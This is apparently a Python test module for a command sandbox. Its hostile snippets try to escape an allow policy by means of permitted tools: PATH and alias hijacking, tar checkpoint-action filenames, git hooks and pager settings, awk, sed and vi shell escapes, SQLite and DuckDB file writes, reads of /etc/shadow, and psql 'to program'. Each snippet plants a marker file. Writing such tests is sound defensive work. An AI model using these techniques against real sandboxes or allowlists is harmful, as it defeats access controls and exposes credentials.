# ruff: noqa: E501 - programs keep their lines
"""Attacks under the name of what a policy allows: tools of the trade and databases that become a shell."""

from __future__ import annotations

from textwrap import dedent

from .model import Attempt, Hostile, hostile

_PLANTED: Attempt = ("file", "/etc/planted")
_PAYLOAD = """
mkdir -p d && d=$PWD/d && export d
cat > d/p.sh <<'S'
#!/bin/sh
(echo x > /etc/planted) 2>/dev/null && echo BREACH >> "$d/result"
exit 0
S
chmod +x d/p.sh
with() { command -v "$1" >/dev/null || { sh d/p.sh; return 1; }; }
"""
"""`with TOOL` is true where there is one; where there is none, the payload runs as it is."""
_END = "\n[ -e d/result ] && cat d/result\nexit 0\n"


def _tool(name: str, body: str, attempt: Attempt = _PLANTED) -> Hostile:
    return hostile(name, _PAYLOAD + dedent(body) + _END, attempt, "ok", "bash")


_SQLITE = """
    import sqlite3
    db = sqlite3.connect("file::memory:", uri=True); db.isolation_level = None
    def run(*statements):
        try:
            for one in statements: db.execute(one)
        except sqlite3.Error: pass
"""

SNIPPETS: list[Hostile] = [
    _tool(
        "what kubectl, terraform and helm are is another's choice",
        r"""
        cp d/p.sh d/kubectl; shopt -s expand_aliases
        terraform() { d/kubectl "$@"; }
        alias helm='d/kubectl'
        PATH="$d:$PATH" kubectl get pods
        terraform plan
        eval 'helm list'
        """,
    ),
    _tool(
        "a search for files that is a shell",
        r"""
        find d -name p.sh -exec env -i d="$d" PATH="$PATH" sh {} \;
        with xargs && find d -name p.sh -print0 | xargs -0 -n1 sh
        env -S "sh d/p.sh" </dev/null
        """,
    ),
    _tool(
        "names of files that are options of tar",
        r"""
        with tar && (
          cd d && head -c 25000 /dev/zero > data
          : > './--checkpoint=1'; : > './--checkpoint-action=exec=sh p.sh'
          tar cf backup.tar * >/dev/null
        )
        """,
    ),
    _tool(
        "git that is a shell",
        r"""
        export HOME=$d GIT_CONFIG_NOSYSTEM=1
        with git && (
          mkdir d/repo d/hooks && cd d/repo && git init -q . 2>/dev/null
          cp "$d/p.sh" "$d/hooks/pre-commit"; git config core.hooksPath "$d/hooks"
          git -c user.name=c -c user.email=c@example.invalid commit -q --allow-empty -m x
          git -c alias.st="!sh $d/p.sh" st
          git -c core.pager="sh $d/p.sh" --paginate log -1 >/dev/null
          git -c core.fsmonitor="$d/p.sh" status >/dev/null 2>&1
        )
        """,
    ),
    _tool(
        "text tools that are a shell",
        r"""
        awk 'BEGIN { system("sh d/p.sh") }' </dev/null
        echo x | sed "1e sh d/p.sh" >/dev/null
        echo "sh d/p.sh" | sed 's/x/x/;e' >/dev/null
        command -v ed >/dev/null && printf '!sh d/p.sh\nq\n' | ed -s >/dev/null
        command -v vi >/dev/null && vi -es -u NONE -c '!sh d/p.sh' -c 'qa!' </dev/null >/dev/null
        """,
    ),
    _tool(
        "a Makefile that is a shell",
        r"""
        printf 'X := $(shell sh d/p.sh)\nall:\n\t@sh d/p.sh\n' > Makefile
        with make && make -s all
        """,
    ),
    hostile(
        "files elsewhere by SQL",
        dedent(_SQLITE)
        + """
run("ATTACH DATABASE '/etc/planted.db' AS c", "CREATE TABLE c.t(x)")
run("CREATE TABLE t(x)", "VACUUM INTO '/etc/planted-too.db'")
run("ATTACH DATABASE 'file:/usr/local/bin/planted?mode=rwc' AS u", "CREATE TABLE u.t(x)")
for path in ("/etc/planted.db", "/etc/planted-too.db", "/usr/local/bin/planted"):
    try: print("BREACH" if open(path, "rb").read(6) == b"SQLite" else "")
    except OSError: pass
""",
        ("file", "/etc/planted.db"),
        "ok",
    ),
    hostile(
        "native code by SQL",
        dedent(_SQLITE)
        + """
try: db.enable_load_extension(True)
except (AttributeError, sqlite3.Error): pass
for library in ("/etc/planted.so", "/root/planted.so"): run(f"SELECT load_extension('{library}')")
""",
        None,  # where Python's sqlite loads no extensions, nothing is tried
        "ok",
    ),
    hostile(
        "files elsewhere by SQL alone",
        "ATTACH DATABASE '/etc/planted.db' AS c; CREATE TABLE c.t(x);",
        None,  # the engine's own authorizer denies it before there is a call to the kernel
        "permission_denied",
        "sql",
    ),
    _tool(
        "sqlite3 as a reader and a shell",
        r"""
        with sqlite3 && {
          [ "$(sqlite3 -batch :memory: "SELECT length(readfile('/etc/shadow'));" 2>/dev/null)" ] && echo BREACH
          sqlite3 -batch :memory: "SELECT writefile('/etc/planted', 'x');" >/dev/null 2>&1
          printf '%s\n' '.shell sh d/p.sh' '.quit' | sqlite3 -batch :memory: 2>/dev/null
        }
        """,
    ),
    hostile(
        "files elsewhere by DuckDB",
        """
        try: import duckdb
        except ImportError: open("/etc/planted", "w")
        db = duckdb.connect()
        for text in ("COPY (SELECT 1) TO '/etc/planted'", "COPY (SELECT 1) TO '/usr/local/bin/planted'",
                     "SELECT sum(length(content)) FROM read_text('/etc/shadow')"):
            try: found = db.execute(text).fetchall()
            except Exception: continue
            if found != [(None,)]: print("BREACH", text)
        """,
        _PLANTED,
    ),
    _tool(
        "psql that is a shell",
        r"""
        unset PGHOSTADDR PGSERVICE PGPASSWORD DATABASE_URL
        command -v psql >/dev/null && for c in "\\copy (select 1) to program 'sh d/p.sh'" "\\! sh d/p.sh" "\\o |sh d/p.sh"; do
          PGCONNECT_TIMEOUT=2 psql -X -w -q -h /var/run/postgresql -d postgres -c "$c" </dev/null >/dev/null 2>&1
        done
        exec 3<>/dev/tcp/192.0.2.1/5432 && echo BREACH
        sh d/p.sh
        """,
    ),
]
